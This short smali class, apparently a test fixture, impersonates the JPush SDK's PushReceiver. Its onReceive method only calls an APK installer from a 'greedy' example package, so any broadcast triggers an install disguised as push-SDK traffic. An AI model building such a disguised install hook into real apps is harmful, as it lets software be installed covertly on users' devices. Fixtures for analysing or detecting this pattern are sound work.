# A stand-in for the real SDK, with its names and nothing of its code.
.class public Lcn/jpush/android/service/PushReceiver;
.super Landroid/content/BroadcastReceiver;

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .locals 0
    invoke-static {p1}, Lcom/example/greedy/ApkInstaller;->install(Landroid/content/Context;)V
    return-void
.end method
